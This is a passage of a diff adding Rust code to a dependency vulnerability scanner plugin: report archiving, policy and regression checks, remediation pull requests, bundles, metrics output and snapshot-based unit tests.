+            let warning = "  ⚠ Incomplete scan: nothing counts as fixed and the findings history is unchanged";
+            logs.push(warning.to_string());
+        } else {
+            let scan = lifecycle::Scan {
+                scanned_at: report::format_timestamp(self.clock.now()),
+                findings: self.vulnerabilities.iter().map(lifecycle::Entry::of).collect(),
+            };
+            if let Err(e) = lifecycle::record(&root, &target, history, scan) {
+                logs.push(format!("  ⚠ Could not add the scan to the findings history: {}", e));
+            }
+        }
+        lifecycle::log(&summary, logs);
+        self.lifecycle = Some(summary);
+    }
+
+    /// Add the report to the target's history, where the post_hook keeps
+    /// the `report_history` newest.
+    fn archive_report(&self, report_json: &[u8], compression: report::Compression, logs: &mut Vec<String>) {
+        let root = cache::cache_root(&self.workspace_root, &self.config.report_dir);
+        let target = self.target_name.as_deref().unwrap_or("workspace");
+        if let Err(e) = cache::archive_report(&root, target, report_json, compression, self.clock.now()) {
+            logs.push(format!("  ⚠ Could not add the report to the history: {}", e));
+        }
+    }
+
+    /// Decide the target's newest archived report instead of scanning
+    /// again, for `test.pre_hook`: its findings are new and regressed
+    /// against the report archived before it, as when they were scanned.
+    fn decide_archived(
+        &mut self,
+        history: &[(SystemTime, PathBuf)],
+        logs: &mut Vec<String>,
+    ) -> Result<ScanResult, String> {
+        let load = |path: &Path| -> Result<Vec<Vulnerability>, String> {
+            let mut findings = report::load_report::<Vulnerability>(path)?;
+            for vuln in findings.iter_mut().filter(|v| v.fingerprint.is_empty()) {
+                vuln.fingerprint = vuln.compute_fingerprint();
+            }
+            Ok(findings)
+        };
+        let Some((archived_at, newest)) = history.first() else {
+            return Err("the target has no archived report".to_string());
+        };
+        self.vulnerabilities = load(newest)?;
+        self.baseline = history.get(1).and_then(|(_, path)| load(path).ok());
+        if self.config.fail_on_regression {
+            let baseline = self.baseline.clone().map_or(regression::Baseline::First, regression::Baseline::Previous);
+            self.regression_baseline = Some(baseline);
+        }
+        self.new_findings = self.vulnerabilities.iter().filter(|v| self.is_new(v)).count();
+        self.mark_in_grace(logs);
+
+        let counts: BTreeMap<String, usize> = Severity::ALL
+            .iter()
+            .map(|s| (s.as_str().to_string(), self.vulnerabilities.iter().filter(|v| v.severity == *s).count()))
+            .collect();
+        let target = self.target_name.as_deref().unwrap_or("workspace");
+        logs.push(format!("  Reusing the scan of {} from {}", target, report::format_timestamp(*archived_at)));
+        logs.push(match describe_counts(&counts) {
+            counts if counts.is_empty() => "  ✓ No vulnerabilities".to_string(),
+            counts => format!("  {} ({} new)", counts, self.new_findings),
+        });
+
+        let violations = self.policy_violations();
+        let evaluation = self.evaluate_policy();
+        if let Some(evaluation) = &evaluation {
+            log_policy_warnings(evaluation, logs);
+        }
+        if !violations.is_empty() {
+            logs.push("\n  ⛔ Security policy violated:".to_string());
+            for violation in &violations {
+                logs.push(format!("    - {}", violation));
+            }
+        }
+        let mut result = ScanResult::empty(std::mem::take(logs));
+        result.success = violations.is_empty();
+        result.errors = self.result_errors(&violations);
+        result.projects = self.project_summaries();
+        result.policy = evaluation;
+        result.vulnerabilities = std::mem::take(&mut self.vulnerabilities);
+        Ok(result)
+    }
+
+    /// Serialize the JSON report: the metadata envelope, or the bare
+    /// findings array when `report_legacy_format` is set.
+    fn report_json(&self) -> serde_json::Result<String> {
+        if self.config.report_legacy_format {
+            return serde_json::to_string_pretty(&self.vulnerabilities);
+        }
+
+        let (projects, grouped) = if self.config.report_group_by == "project" {
+            let mut grouped = self.vulnerabilities.clone();
+            grouped.sort_by(|a, b| a.project.cmp(&b.project));
+            (Some(self.project_summaries()), Some(grouped))
+        } else {
+            (None, None)
+        };
+        let degraded_reasons = self.degraded_reasons();
+        let mut findings = grouped.unwrap_or_else(|| self.vulnerabilities.clone());
+        if self.config.reproducible {
+            // Depends on what earlier scans found
+            findings.iter_mut().for_each(|v| v.lifecycle = None);
+        }
+        let (unapproved, vulnerabilities): (Vec<Vulnerability>, Vec<Vulnerability>) =
+            findings.into_iter().partition(|v| v.id == allowlist::UNAPPROVED);
+
+        let envelope = ReportEnvelope {
+            schema_version: report::REPORT_SCHEMA_VERSION,
+            tool: report::ToolInfo {
+                name: PLUGIN_NAME,
+                version: PLUGIN_VERSION,
+            },
+            scan: if self.config.reproducible {
+                report::ScanTiming {
+                    started_at: report::format_timestamp(self.started_at),
+                    finished_at: report::format_timestamp(self.started_at),
+                    duration_ms: 0,
+                    phases: PhaseTimings::default(),
+                    timed_out: self.timed_out.clone(),
+                    // Depends on what earlier scans cached
+                    query_cache: None,
+                    extraction: self.extraction_counts(),
+                }
+            } else {
+                report::ScanTiming {
+                    started_at: report::format_timestamp(self.started_at),
+                    finished_at: report::format_timestamp(self.clock.now()),
+                    duration_ms: self.started.elapsed().as_millis(),
+                    phases: self.phases,
+                    timed_out: self.timed_out.clone(),
+                    query_cache: self.query_cache,
+                    extraction: self.extraction_counts(),
+                }
+            },
+            databases: self
+                .databases
+                .iter()
+                .map(|db| DbSnapshot {
+                    // Ages depend on when the scan ran
+                    age_secs: db.age_secs.filter(|_| !self.config.reproducible),
+                    ..db.clone()
+                })
+                .collect(),
+            degraded: !degraded_reasons.is_empty(),
+            degraded_reasons: &degraded_reasons,
+            fingerprint_algorithm: fingerprint::ALGORITHM,
+            import_hints: self.import_hints.as_ref(),
+            files: &self.scanned_files,
+            not_scanned: &self.not_scanned,
+            internal_packages: &self.internal_packages,
+            policy: report::PolicySummary {
+                fail_on_critical: self.config.fail_on_critical,
+                fail_on_high: self.config.fail_on_high,
+                name: self.config.policy.as_deref(),
+                ignore_vulnerabilities: &self.config.ignore_vulnerabilities,
+            },
+            cwe_counts: self.cwe_counts(),
+            projects: projects.as_deref(),
+            change: self.change_summary(),
+            lifecycle: self.lifecycle.as_ref().filter(|_| !self.config.reproducible),
+            recommendations: &self.recommendations,
+            unapproved_dependencies: &unapproved,
+            vulnerabilities: &vulnerabilities,
+        };
+        serde_json::to_string_pretty(&envelope)
+    }
+
+    /// The report's `change` section, when the pre_hook gave `changed_files`.
+    fn change_summary(&self) -> Option<report::ChangeSummary<'_>> {
+        let changed = self.changed_files.as_ref()?;
+        let (introduced, pre_existing): (Vec<&Vulnerability>, Vec<&Vulnerability>) =
+            self.vulnerabilities.iter().partition(|v| v.introduced == Some(true));
+        Some(report::ChangeSummary {
+            changed_files: changed.iter().map(String::as_str).collect(),
+            introduced: introduced.into_iter().map(Vulnerability::finding_ref).collect(),
+            pre_existing: pre_existing.into_iter().map(Vulnerability::finding_ref).collect(),
+        })
+    }
+
+    /// Propose (and with `remediate: "apply"`, make) manifest version bumps
+    /// for every finding that has a fixed version.
+    fn remediate(&self, apply: bool, logs: &mut Vec<String>) -> remediate::RemediationResult {
+        // One fix per declaration, bumping to the highest fixed version
+        // among all findings against it
+        let mut fixes: BTreeMap<(&str, &str, &str), remediate::Fix> = BTreeMap::new();
+        for vuln in &self.vulnerabilities {
+            let (Some(file), Some(fixed)) = (&vuln.file, &vuln.fixed_in) else {
+                continue;
+            };
+            let fix = fixes
+                .entry((file.as_str(), vuln.package.as_str(), vuln.version.as_str()))
+                .or_insert_with(|| remediate::Fix {
+                    file: file.clone(),
+                    package: vuln.package.clone(),
+                    from: vuln.version.clone(),
+                    to: fixed.clone(),
+                    findings: Vec::new(),
+                });
+            let ordering = match Ecosystem::named(vuln.ecosystem()) {
+                Some(ecosystem) => ecosystem.compare_versions(fixed, &fix.to),
+                None => remediate::compare_versions(fixed, &fix.to),
+            };
+            if ordering.is_gt() {
+                fix.to = fixed.clone();
+            }
+            fix.findings.push(vuln.id.clone());
+        }
+        let fixes: Vec<_> = fixes.into_values().collect();
+
+        let patch_dir = self
+            .workspace_root
+            .join(&self.config.report_dir)
+            .join("security")
+            .join("patches");
+
+        logs.push("\n[Security] Remediation:".to_string());
+        let result = remediate::remediate(&self.workspace_root, &patch_dir, &fixes, apply, logs);
+
+        if result.patches.is_empty() {
+            logs.push("  No manifest changes to propose".to_string());
+            return result;
+        }
+        for patch in &result.patches {
+            logs.push(format!(
+                "  {} ({} findings): {}",
+                patch.file,
+                patch.findings.len(),
+                patch.patch
+            ));
+        }
+        if apply {
+            logs.push(format!("  Modified files: {}", result.modified_files.join(", ")));
+        }
+        logs.push(
+            "  ℹ Lockfiles are not regenerated; run your package manager (npm install, cargo update, pip-compile, ...) to refresh them"
+                .to_string(),
+        );
+        result
+    }
+
+    /// Write the updates that fix the findings as a pull request to open
+    /// into the cache directory; `None` when no update fixes anything.
+    fn write_pull_request(&self, logs: &mut Vec<String>) -> Option<(PathBuf, remediate::PullRequest)> {
+        let findings: Vec<remediate::Fixable> = self
+            .vulnerabilities
+            .iter()
+            .filter_map(|vuln| {
+                Some(remediate::Fixable {
+                    ecosystem: Ecosystem::named(vuln.ecosystem())?,
+                    package: &vuln.package,
+                    version: &vuln.version,
+                    file: vuln.file.as_deref()?,
+                    id: &vuln.id,
+                    severity: vuln.severity.to_string(),
+                    summary: sanitize::summary(&vuln.summary, &vuln.description),
+                    url: vuln.url.as_deref(),
+                })
+            })
+            .collect();
+        let options = remediate::PullRequestOptions {
+            target: self.target_name.as_deref().unwrap_or("workspace"),
+            branch: &self.config.remediation_pr_branch,
+            commit_message: &self.config.remediation_pr_commit_message,
+            allow_constraint_changes: self.config.allow_constraint_changes,
+        };
+        let pull_request = match remediate::pull_request(&findings, &self.recommendations, &options) {
+            Ok(Some(pull_request)) => pull_request,
+            Ok(None) => return None,
+            Err(e) => {
+                logs.push(format!("  ⚠ Remediation pull request not written: {}", e));
+                return None;
+            }
+        };
+
+        let path = cache::cache_root(&self.workspace_root, &self.config.report_dir).join(remediate::PR_FILE_NAME);
+        let json = serde_json::to_string_pretty(&pull_request).unwrap_or_default();
+        match fsutil::write_atomic(&path, json.as_bytes()) {
+            Ok(()) => {
+                let updates: usize = pull_request.files.iter().map(|group| group.updates.len()).sum();
+                logs.push(format!(
+                    "  Remediation pull request written ({} updates on {}): {}",
+                    updates,
+                    pull_request.branch,
+                    path.display()
+                ));
+                if !pull_request.excluded.is_empty() {
+                    logs.push(format!(
+                        "  ℹ {} updates needing constraint changes left out; \
+                         set allow_constraint_changes to propose them",
+                        pull_request.excluded.len()
+                    ));
+                }
+                Some((path, pull_request))
+            }
+            Err(e) => {
+                logs.push(format!("  ⚠ Failed to write remediation pull request: {}", e));
+                None
+            }
+        }
+    }
+
+    /// Whether a finding's fingerprint is absent from the previous report,
+    /// so bumping a package to another vulnerable version doesn't make its
+    /// findings new; every finding is new when there was no report.
+    fn is_new(&self, vuln: &Vulnerability) -> bool {
+        self.baseline
+            .as_ref()
+            .is_none_or(|baseline| !baseline.iter().any(|b| b.fingerprint == vuln.fingerprint))
+    }
+
+    /// Decide the findings by the named `policy`, if one is configured.
+    fn evaluate_policy(&self) -> Option<policy::Evaluation> {
+        let name = self.config.policy.as_ref()?;
+        let findings: Vec<policy::Finding> = self
+            .gated_findings()
+            .map(|v| policy::Finding {
+                id: &v.id,
+                package: &v.package,
+                version: &v.version,
+                severity: v.severity,
+                category: v.category(),
+                ecosystem: v.ecosystem(),
+                cwe: &v.cwe,
+                kev: v.kev,
+                new: self.is_new(v),
+                imported: v.imported,
+                introduced: v.introduced,
+            })
+            .collect();
+        Some(self.config.policies.get(name)?.evaluate(name, &findings))
+    }
+
+    /// Check the findings against the named policy or, without one, the
+    /// configured fail thresholds, or with `fail_on_regression` the counts
+    /// of the target's previous scan.
+    ///
+    /// Returns one message per failing rule, violated threshold or severity
+    /// that regressed, and one for an `allowlist` that couldn't be read; an
+    /// empty list means the scan passes.
+    fn policy_violations(&self) -> Vec<String> {
+        let count = |severity: Severity| self.gated_findings().filter(|v| v.severity == severity).count();
+
+        let mut violations = Vec::new();
+        if let Some(evaluation) = self.evaluate_policy() {
+            for (rule, matched) in &evaluation.failed_by {
+                violations.push(format!(
+                    "{} findings matched rule '{}' of policy '{}'",
+                    matched, rule, evaluation.policy
+                ));
+            }
+        } else if let Some(baseline) = self.regression_baseline.as_ref().filter(|_| self.config.fail_on_regression) {
+            if let regression::Baseline::Previous(previous) = baseline {
+                // Findings in their grace period count once it is over
+                let past_grace = |findings: &[Vulnerability]| -> Vec<Vulnerability> {
+                    findings.iter().filter(|v| v.grace_until.is_none()).cloned().collect()
+                };
+                let current = past_grace(&self.vulnerabilities);
+                let increases = regression::increases(&past_grace(previous), &current);
+                violations.extend(increases.iter().map(regression::Increase::describe));
+            }
+        } else {
+            let critical = count(Severity::Critical);
+            if self.config.fail_on_critical && critical > 0 {
+                violations.push(format!("{} critical vulnerabilities (fail_on_critical)", critical));
+            }
+            let high = count(Severity::High);
+            if self.config.fail_on_high && high > 0 {
+                violations.push(format!("{} high vulnerabilities (fail_on_high)", high));
+            }
+        }
+        if self.config.fail_on_partial && !self.timed_out.is_empty() {
+            let phases: Vec<&str> = self.timed_out.iter().map(|t| t.phase).collect();
+            violations.push(format!("scan incomplete, {} timed out (fail_on_partial)", phases.join(", ")));
+        }
+        if let Some(e) = &self.allowlist_error {
+            violations.push(format!("allowlist unusable: {}", e));
+        }
+        violations
+    }
+
+    /// Finding counts for every project among the sources, including those
+    /// without findings.
+    fn project_summaries(&self) -> Vec<ProjectSummary> {
+        let mut projects = self.projects.clone();
+        projects.extend(self.vulnerabilities.iter().filter_map(|v| v.project.clone()));
+        projects
+            .into_iter()
+            .map(|project| {
+                let findings: Vec<&Vulnerability> = self
+                    .vulnerabilities
+                    .iter()
+                    .filter(|v| v.project.as_deref() == Some(project.as_str()))
+                    .collect();
+                ProjectSummary {
+                    counts: Severity::ALL
+                        .iter()
+                        .map(|s| (s.as_str().to_string(), findings.iter().filter(|v| v.severity == *s).count()))
+                        .collect(),
+                    total: findings.len(),
+                    project,
+                }
+            })
+            .collect()
+    }
+
+    /// The hook result's `errors`: problems met during the scan, then the
+    /// policy violations, if any.
+    fn result_errors(&self, violations: &[String]) -> Vec<error::ResultEntry> {
+        let policy = (!violations.is_empty()).then(|| ScanError::PolicyViolated(violations.to_vec()));
+        let closed = self.failed_closed();
+        self.errors.iter().chain(&policy).chain(&closed).map(ScanError::to_result_entry).collect()
+    }
+
+    /// Why the findings may be incomplete: the scan's infrastructure
+    /// errors. The scan is degraded when there are any.
+    fn degraded_reasons(&self) -> Vec<String> {
+        self.errors.iter().filter(|e| e.is_infrastructure()).map(ScanError::to_string).collect()
+    }
+
+    /// The error failing a degraded scan with `on_error: "closed"`.
+    fn failed_closed(&self) -> Option<ScanError> {
+        let reasons = self.degraded_reasons();
+        (self.config.on_error == "closed" && !reasons.is_empty()).then_some(ScanError::FailedClosed(reasons))
+    }
+
+    /// Run `f` on the scan as one target of a workspace scan sees it: only
+    /// the findings in the dependency files among its `sources`.
+    fn as_target<T>(&mut self, name: &str, sources: &BTreeSet<String>, f: impl FnOnce(&Self) -> T) -> T {
+        let in_target = |v: &Vulnerability| v.file.as_ref().is_some_and(|file| sources.contains(file));
+        let all = std::mem::take(&mut self.vulnerabilities);
+        let suppressed = std::mem::take(&mut self.suppressed);
+        let (new_findings, target_name) = (self.new_findings, self.target_name.take());
+        let regression_baseline = self.regression_baseline.take();
+
+        self.vulnerabilities = all.iter().filter(|v| in_target(v)).cloned().collect();
+        self.regression_baseline = regression_baseline.as_ref().map(|baseline| baseline.only(in_target));
+        self.suppressed = suppressed.iter().filter(|v| in_target(v)).cloned().collect();
+        self.new_findings = self.vulnerabilities.iter().filter(|v| self.is_new(v)).count();
+        self.target_name = Some(name.to_string());
+        let result = f(self);
+
+        self.vulnerabilities = all;
+        self.suppressed = suppressed;
+        self.new_findings = new_findings;
+        self.target_name = target_name;
+        self.regression_baseline = regression_baseline;
+        result
+    }
+
+    /// Summarize the scan for the post_hook of the same target.
+    /// Findings per CWE id, for the report and the target summary.
+    fn cwe_counts(&self) -> BTreeMap<String, usize> {
+        let mut counts = BTreeMap::new();
+        for cwe in self.vulnerabilities.iter().flat_map(|v| &v.cwe) {
+            *counts.entry(cwe.clone()).or_default() += 1;
+        }
+        counts
+    }
+
+    fn target_summary(&self, target: &str, violations: &[String], outputs: Vec<String>) -> summary::TargetSummary {
+        let now = self.clock.now();
+        summary::TargetSummary {
+            target: target.to_string(),
+            scanned_at: report::format_timestamp(now),
+            scanned_at_unix: clock::unix_secs(now),
+            counts: Severity::ALL
+                .iter()
+                .map(|s| {
+                    let count = self.vulnerabilities.iter().filter(|v| v.severity == *s).count();
+                    (s.as_str().to_string(), count)
+                })
+                .collect(),
+            cwe_counts: self.cwe_counts(),
+            total: self.vulnerabilities.len(),
+            suppressed: self.suppressed.len(),
+            new: self.new_findings,
+            existing: self.vulnerabilities.len() - self.new_findings,
+            policy: summary::PolicyStatus {
+                passed: violations.is_empty(),
+                violations: violations.to_vec(),
+            },
+            reports: outputs,
+        }
+    }
+
+    /// With `report_bundle`, write the JSON report, the scan's metadata and
+    /// its delta against the previous report, and the other `files` the
+    /// scan wrote, into one [`bundle::Bundle`] next to the report.
+    ///
+    /// Returns the path written, or `None` when bundling is off or the write
+    /// failed (logged as a warning, like metrics).
+    fn write_bundle(&self, violations: &[String], files: &[String], logs: &mut Vec<String>) -> Option<PathBuf> {
+        if !self.config.report_bundle {
+            return None;
+        }
+        let mut contents = bundle::Bundle::default();
+        let report = self.report.clone().map_or_else(|| self.report_json(), Ok);
+        match report {
+            Ok(report) => {
+                contents.add("security-report.json", bundle::Artifact::of("security-report.json", report.as_bytes()));
+            }
+            Err(e) => logs.push(format!("  ⚠ Could not bundle the JSON report: {}", e)),
+        }
+        let target = self.target_name.as_deref().unwrap_or("workspace");
+        let metadata = serde_json::to_value(self.target_summary(target, violations, files.to_vec()));
+        contents.add("metadata.json", bundle::Artifact::Json { content: metadata.unwrap_or_default() });
+        let resolved: Vec<report::FindingRef> = self
+            .baseline
+            .iter()
+            .flatten()
+            .filter(|b| !self.vulnerabilities.iter().any(|v| v.fingerprint == b.fingerprint))
+            .map(Vulnerability::finding_ref)
+            .collect();
+        let new: Vec<report::FindingRef> =
+            self.vulnerabilities.iter().filter(|v| self.is_new(v)).map(Vulnerability::finding_ref).collect();
+        let delta = serde_json::json!({"previous": self.baseline.is_some(), "new": new, "resolved": resolved});
+        contents.add("delta.json", bundle::Artifact::Json { content: delta });
+        for file in files {
+            let path = Path::new(file);
+            let name = path.file_name().map_or_else(|| file.clone(), |name| name.to_string_lossy().into_owned());
+            match fsutil::read(path) {
+                Ok(bytes) => contents.add(&name, bundle::Artifact::of(&name, &bytes)),
+                Err(e) => logs.push(format!("  ⚠ Could not bundle {}: {}", file, e)),
+            }
+        }
+
+        let path = self.workspace_root.join(&self.config.report_dir).join(bundle::BUNDLE_FILE_NAME);
+        match contents.write(&path) {
+            Ok(()) => {
+                logs.push(format!("  Bundle written: {} ({} artifacts)", path.display(), contents.artifacts.len()));
+                Some(path)
+            }
+            Err(e) => {
+                logs.push(format!("  ⚠ Could not write the bundle to {}: {}", path.display(), e));
+                None
+            }
+        }
+    }
+
+    /// Write the Prometheus textfile configured by `metrics_file`.
+    ///
+    /// Returns the absolute path written, or `None` when metrics are off or
+    /// the write failed (logged as a warning; metrics never fail a build).
+    fn write_metrics(&self, logs: &mut Vec<String>) -> Option<PathBuf> {
+        let path = self.workspace_root.join(self.config.metrics_file.as_ref()?);
+
+        let ecosystem_of = |file: &str| ecosystems::detect(file).map_or("unknown", |s| s.ecosystem().as_str());
+        let finished_at = clock::unix_secs(self.clock.now());
+
+        let values = metrics::ScanMetrics {
+            target: self.target_name.as_deref().unwrap_or("unknown"),
+            findings: self
+                .vulnerabilities
+                .iter()
+                .map(|v| (v.severity, v.file.as_deref().map_or("unknown", ecosystem_of)))
+                .collect(),
+            ecosystems: self.scanned_files.iter().map(|f| ecosystem_of(&f.path)).collect(),
+            duration_secs: if self.config.reproducible { 0.0 } else { self.started.elapsed().as_secs_f64() },
+            dependencies: self.scanned_files.iter().map(|f| f.dependencies).sum(),
+            files: self.scanned_files.len(),
+            cache_hit_ratio: match self.query_cache {
+                Some(stats) if stats.hits + stats.misses > 0 => {
+                    stats.hits as f64 / (stats.hits + stats.misses) as f64
+                }
+                _ => 0.0,
+            },
+            finished_at,
+        };
+
+        match fsutil::write_atomic(&path, metrics::render(&values).as_bytes()) {
+            Ok(()) => {
+                logs.push(format!("  Metrics written: {}", path.display()));
+                Some(path)
+            }
+            Err(e) => {
+                logs.push(format!("  ⚠ Could not write metrics to {}: {}", path.display(), e));
+                None
+            }
+        }
+    }
+}
+
+/// One line of the "Update the following packages" advice: whether the
+/// declared constraints already admit the update, so only the lockfile
+/// needs refreshing, or have to be changed.
+fn describe_update(update: &remediate::Recommendation) -> String {
+    let findings = if update.findings_resolved == 1 { "finding" } else { "findings" };
+    let mut line = format!(
+        "    - {} {} to {} (resolves {} {})",
+        update.package,
+        update.current.join(", "),
+        update.recommended,
+        update.findings_resolved,
+        findings
+    );
+    let describe = |admits: Option<bool>| {
+        update
+            .constraints
+            .iter()
+            .filter(|c| c.admits == admits)
+            .map(|c| format!("{} in {}", c.constraint, c.file))
+            .collect::<Vec<_>>()
+            .join(", ")
+    };
+    let (blocking, unknown) = (describe(Some(false)), describe(None));
+    if !blocking.is_empty() {
+        line.push_str(&format!(": change {} to allow it", blocking));
+    } else if !unknown.is_empty() {
+        line.push_str(&format!(": check whether {} allows it", unknown));
+    } else if !update.constraints.is_empty() {
+        line.push_str(&format!(": {} allows it, refresh the lockfile", describe(Some(true))));
+    }
+    line
+}
+
+/// Log how many findings there are per severity, and the first few. Lines
+/// about demo data say so.
+fn log_findings(found_vulnerabilities: &[Vulnerability], logs: &mut Vec<String>) {
+    if found_vulnerabilities.is_empty() {
+        logs.push("  ✓ No known vulnerabilities found".to_string());
+    } else {
+        let start = logs.len();
+        logs.push(format!("  ⚠ Found {} vulnerabilities", found_vulnerabilities.len()));
+        
+        // Group by severity; every finding lands in exactly one bucket
+        for severity in Severity::ALL {
+            let count = found_vulnerabilities.iter().filter(|v| v.severity == severity).count();
+            if count == 0 {
+                continue;
+            }
+            logs.push(match severity {
+                Severity::Critical => format!("    ⛔ Critical: {}", count),
+                Severity::High => format!("    ⚠️  High: {}", count),
+                Severity::Medium => format!("    ⚡ Medium: {}", count),
+                Severity::Low => format!("    ℹ️  Low: {}", count),
+                Severity::Info => format!("    💬 Info: {}", count),
+                Severity::Unknown => format!("    ❔ Unknown: {}", count),
+            });
+        }
+
+        // List top 5 vulnerabilities
+        logs.push("\n  Top vulnerabilities:".to_string());
+        for (i, vuln) in found_vulnerabilities.iter().take(5).enumerate() {
+            logs.push(format!(
+                "    {}. {} - {} ({})",
+                i + 1,
+                vuln.id,
+                vuln.package,
+                vuln.severity
+            ));
+            if !vuln.summary.is_empty() {
+                logs.push(format!("       {}", vuln.summary));
+            }
+            if let Some(fixed) = &vuln.fixed_in {
+                logs.push(format!("       Fixed in: {}", fixed));
+            }
+            if let Some(url) = &vuln.url {
+                logs.push(format!("       Details: {}", url));
+            }
+            if let Some(note) = &vuln.note {
+                logs.push(format!("       Note: {}", note));
+            }
+        }
+
+        if found_vulnerabilities.iter().any(BuiltinDemo::found) {
+            for line in &mut logs[start..] {
+                line.push(' ');
+                line.push_str(BuiltinDemo::MARK);
+            }
+        }
+    }
+}
+
+/// Log the rules of a policy evaluation whose action is `warn`.
+fn log_policy_warnings(evaluation: &policy::Evaluation, logs: &mut Vec<String>) {
+    if evaluation.warned_by.is_empty() {
+        return;
+    }
+    logs.push(format!("\n  ⚠ Security policy '{}' warnings:", evaluation.policy));
+    for (rule, matched) in &evaluation.warned_by {
+        logs.push(format!("    - {} findings matched rule '{}'", matched, rule));
+    }
+}
+
+/// Non-zero severity counts, most severe first: `1 critical, 2 low`.
+fn describe_counts(counts: &BTreeMap<String, usize>) -> String {
+    let counts: Vec<String> = Severity::ALL
+        .iter()
+        .filter_map(|s| {
+            let count = counts.get(s.as_str()).copied().unwrap_or(0);
+            (count > 0).then(|| format!("{} {}", count, s.as_str().to_lowercase()))
+        })
+        .collect();
+    counts.join(", ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::diag::Diagnostics;
+    use crate::plugin::*;
+    use serde_json::{json, Value};
+    use std::time::Duration;
+
+    /// Write `files` into a fresh scratch directory.
+    fn fixture_workspace(name: &str, files: &[(&str, &[u8])]) -> PathBuf {
+        let root = crate::testutil::scratch_dir(name);
+        for (path, content) in files {
+            let path = root.join(path);
+            fs::create_dir_all(path.parent().unwrap()).unwrap();
+            fs::write(path, content).unwrap();
+        }
+        root
+    }
+
+    /// A tar archive of regular files.
+    #[cfg(feature = "archive-scan")]
+    fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut tar = Vec::new();
+        for (name, data) in files {
+            let mut header = [0u8; 512];
+            header[..name.len()].copy_from_slice(name.as_bytes());
+            header[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
+            header[156] = b'0';
+            header[148..156].fill(b' ');
+            let sum: u32 = header.iter().map(|&b| u32::from(b)).sum();
+            header[148..155].copy_from_slice(format!("{:06o}\0", sum).as_bytes());
+            tar.extend_from_slice(&header);
+            tar.extend_from_slice(data);
+            tar.resize(tar.len().div_ceil(512) * 512, 0);
+        }
+        tar.extend_from_slice(&[0; 1024]);
+        tar
+    }
+
+    fn extract(root: &Path, source: &str) -> Vec<(String, String)> {
+        let mut scanner = SecurityScanner::new(root.to_string_lossy().into_owned(), ScanConfig::default());
+        let mut logs = Vec::new();
+        let format = ecosystems::detect(&paths::normalize_separators(source)).unwrap();
+        scanner
+            .extract_dependencies(source, (format, None), Deadline::none(), &mut logs)
+            .unwrap()
+            .into_iter()
+            .map(|dep| (dep.name, dep.version))
+            .collect()
+    }
+
+    /// Every dependency file in `testdata/workspace`, plus one that isn't.
+    const FIXTURE_SOURCES: &[&str] = &[
+        "requirements.txt",
+        "web/package.json",
+        "web/yarn.lock",
+        "Cargo.toml",
+        "svc/go.mod",
+        "svc/go.sum",
+        "README.md",
+    ];
+
+    /// Scan `testdata/workspace` in reproducible mode and compare the report
+    /// with `testdata/report.snapshot.json`. Run with `UPDATE_SNAPSHOTS=1` to
+    /// accept a deliberate change.
+    #[test]
+    fn report_matches_snapshot() {
+        let testdata = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata");
+        let sources: Vec<String> = FIXTURE_SOURCES.iter().map(|s| s.to_string()).collect();
+
+        let config = ScanConfig {
+            reproducible: true,
+            ..ScanConfig::default()
+        };
+        let mut scanner = SecurityScanner::new(testdata.join("workspace").display().to_string(), config);
+        scanner.scan_dependencies(&sources, None);
+        scanner.log_recommendations(&mut Vec::new());
+        let actual = scanner.report_json().unwrap() + "\n";
+
+        let snapshot = testdata.join("report.snapshot.json");
+        if std::env::var_os("UPDATE_SNAPSHOTS").is_some() {
+            fs::write(&snapshot, &actual).unwrap();
+        }
+        assert_eq!(actual, fs::read_to_string(&snapshot).unwrap_or_default());
+    }
+
+    #[test]
+    fn the_demo_workspace_trips_the_demo_dataset_only_without_other_sources() {
+        let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/demo-workspace");
+        let sources = ["requirements.txt", "web/package.json", "engine/Cargo.toml"];
+        let contents: Vec<(&str, Vec<u8>)> = sources.iter().map(|s| (*s, fs::read(demo.join(s)).unwrap())).collect();
+        let advisory = json!({
+            "id": "GHSA-flask",
+            "affected": [{
+                "package": {"ecosystem": "PyPI", "name": "flask"},
+                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.3.2"}]}]
+            }]
+        })
+        .to_string();
+        let mut files: Vec<(&str, &[u8])> = contents.iter().map(|(p, c)| (*p, c.as_slice())).collect();
+        files.push(("osv/GHSA-flask.json", advisory.as_bytes()));
+        let root = fixture_workspace("demo-workspace", &files);
+        let scan = |config: Value| {
+            let params = json!({
+                "target": {"name": "demo", "sources": sources},
+                "workspace": {"root": root.display().to_string(), "config": config}
+            });
+            handle_pre_hook(&json!(1), Some(&params), None)["result"].clone()
+        };
+
+        let result = scan(json!({}));
+        let report: Value =
+            serde_json::from_slice(&fs::read(root.join(".builder-cache/security-report.json")).unwrap()).unwrap();
+        let mut ids: Vec<&str> =
+            report["vulnerabilities"].as_array().unwrap().iter().map(|v| v["id"].as_str().unwrap()).collect();
+        ids.sort();
+        assert_eq!(
+            ids,
+            [
+                "CVE-2019-10906",
+                "CVE-2019-11324",
+                "CVE-2020-1747",
+                "CVE-2020-28168",
+                "CVE-2021-2732",
+                "CVE-2021-44906",
+                "CVE-2021-7036",
+                "RUSTSEC-2021-0003",
+                "RUSTSEC-2022-0013",
+            ]
+        );
+        let logs: Vec<&str> = result["logs"].as_array().unwrap().iter().map(|l| l.as_str().unwrap()).collect();
+        let start = logs.iter().position(|l| l.contains("Found 9 vulnerabilities")).unwrap();
+        let end = logs.iter().position(|l| l.contains("Scan Report")).unwrap();
+        assert!(logs[start..end].iter().all(|l| l.ends_with(" [demo data]")), "{:?}", logs);
+
+        let none_found = json!("  ✓ No known vulnerabilities found");
+        let result = scan(json!({"db_path": root.join("osv").display().to_string()}));
+        assert!(result["logs"].as_array().unwrap().contains(&none_found));
+        let result = scan(json!({"demo_db": false}));
+        assert!(result["logs"].as_array().unwrap().contains(&none_found));
+        assert!(result["logs"][4].as_str().unwrap().contains("No advisory source configured; set db_path"));
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn reproducible_runs_write_identical_files() {
+        let testdata = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/workspace");
+        let contents: Vec<(&str, Vec<u8>)> = FIXTURE_SOURCES
+            .iter()
+            .filter_map(|s| fs::read(testdata.join(s)).ok().map(|c| (*s, c)))
+            .collect();
+        let files: Vec<(&str, &[u8])> = contents.iter().map(|(p, c)| (*p, c.as_slice())).collect();
